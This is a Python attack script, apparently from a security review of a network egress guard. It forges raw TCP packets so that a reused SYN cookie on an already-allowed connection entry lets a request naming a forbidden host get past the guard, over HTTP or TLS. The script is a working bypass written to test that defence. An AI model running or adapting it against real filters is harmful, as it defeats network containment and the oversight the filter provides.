"""The ninth review's second attack on the first-flight guard (a guest's root in host mode,
or CAP_NET_RAW in-guest): a SYN cookie outliving the connection allowed on its four-tuple.

  1. a raw SYN, ISN X1: the server, in SYN-cookie mode, answers with cookie C1 and keeps
     nothing; it is never acknowledged;
  2. garbage on it: the guard rejects the connection (the server never sees it);
  3. a raw SYN at X2 = X1 - len(REQ1) (a new handshake: judged anew), its cookie C2 acknowledged,
     and REQ1 naming GOOD (which this guest resolved): allowed, confirmed, answered (`http`:
     a request, which the front end answers and closes, with its FIN; `tls`: a ClientHello,
     which it answers with its ServerHello and then waits);
  4. a raw reset ends the connection: the server's socket goes, conntrack keeps the entry
     (ten seconds), allowed;
  5. REQ2 naming EVIL at X1 + 1 acknowledging C1 + 1: on the old entry, in its window by
     construction; the server checks cookie C1 and opens a connection that reads REQ2.
Prints the answer's last line (`tls`: "answered EVIL" for any answer), or `error ...`.

usage: cookie_resurrect_attack.py SRC DST http|tls GOOD EVIL   (as root; the caller drops
this host's own RSTs to DST unless they carry the mark 0x77)"""
import os
import random
import ssl
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawtcp import ACK, FIN, PSH, RST, Raw, answer, tries  # noqa: E402

src, dst, mode, good, evil = sys.argv[1:6]
t = Raw(src, dst, 80 if mode == "http" else 443, random.randint(42000, 60000))


def client_hello(name):
    ctx = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ctx.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


if mode == "http":
    REQ1 = ("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % good).encode()
    REQ2 = ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % evil).encode()
    answered = lambda data: b"hello %s" % good.encode() in data
else:
    REQ1, REQ2 = client_hello(good), client_hello(evil)
    answered = lambda data: data[:1] == b"\x16"  # the ServerHello's record


def attack():
    """One try: the answer's last line or `error ...`; None if the cookie changed between the
    SYNs (Linux's cookies count minutes: a minute's turn between them)."""
    t.sport = random.randint(42000, 60000)
    X1 = random.randint(1 << 20, 1 << 31)
    C1 = t.synack(X1)  # 1
    if C1 is None:
        return "error no SYN-ACK"
    t.send(X1 + 1, C1 + 1, ACK | PSH, b"xxxx garbage\r\n")  # 2
    got = t.until(lambda p: p["flags"] & RST)
    if not got or not got[-1]["flags"] & RST:
        return "error the garbage was not reset"
    X2 = X1 - len(REQ1)
    C2 = t.synack(X2)  # 3
    if C2 is None:
        return "error no SYN-ACK for the second SYN"
    if C1 - C2 != len(REQ1):
        return None
    t.send(X2 + 1, C2 + 1, ACK | PSH, REQ1)
    got = t.until(lambda p: answered(p["data"]))
    if not got or not answered(got[-1]["data"]):
        return "error REQ1 not answered"
    t.send(X2 + 1 + len(REQ1), 0, RST)  # 4
    t.send(X1 + 1, C1 + 1, ACK | PSH, REQ2)  # 5: in order after 4, no wait
    got = t.until(lambda p: p["flags"] & (FIN | RST) or (b"hello" in p["data"] if mode == "http" else p["data"]))
    if mode == "tls" and not any(p["flags"] & RST for p in got):
        return "answered %s" % evil if any(p["data"] for p in got) else "error no answer"
    return answer(got)


print(tries(attack))
